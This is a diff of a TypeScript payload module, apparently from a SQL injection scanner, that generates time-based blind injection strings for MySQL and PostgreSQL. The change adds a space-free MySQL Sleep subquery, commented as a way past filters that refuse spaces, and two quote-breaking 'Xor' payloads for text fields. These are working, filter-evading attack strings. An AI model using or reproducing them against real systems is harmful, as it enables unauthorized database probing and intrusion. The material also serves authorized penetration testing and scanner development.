@@ -179,6 +179,8 @@ export interface Waiting {
   readonly technique: 'time' | 'stacked'
   /** What the value has to look like, any of it. */
   readonly fits: readonly Boundary['fits'][]
+  /** Asked where quotes are answered otherwise than a word alone: what refuses one kind of them refuses a text that holds both. */
+  readonly quoted?: true
   readonly with: (v: string, seconds: string) => string
 }
 
@@ -192,6 +194,8 @@ const number = (v: string): string => (/^-?\d+(\.\d+)?$/.test(v) ? v : '1')
 const followed = (v: string, statement: string): string => `${number(v)}/*';${statement}-- */;${statement}-- -`
 export const isName = (v: string): boolean => /^[A-Za-z_][\w.]{0,40}$/.test(v)
 const mysql = (s: string): string => `(Select 0 From(Select Sleep(${s}))x)`
+/** Without spaces, which filters refuse as well. */
+const unspaced = (s: string): string => `(Select(0)From(Select(Sleep(${s})))x)`
 
 export const WAITING: readonly Waiting[] = [
   {
@@ -204,8 +208,10 @@ export const WAITING: readonly Waiting[] = [
     dbms: 'MySQL',
     technique: 'time',
     fits: UNQUOTED,
-    with: (v, s) => `${v || '1'}-(Select(0)From(Select(Sleep(${s})))x)`,
+    with: (v, s) => `${v || '1'}-${unspaced(s)}`,
   },
+  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}'Xor${unspaced(s)}Xor'` },
+  { dbms: 'MySQL', technique: 'time', fits: ['text'], quoted: true, with: (v, s) => `${v}"Xor${unspaced(s)}Xor"` },
   {
     dbms: 'PostgreSQL',
     technique: 'time',
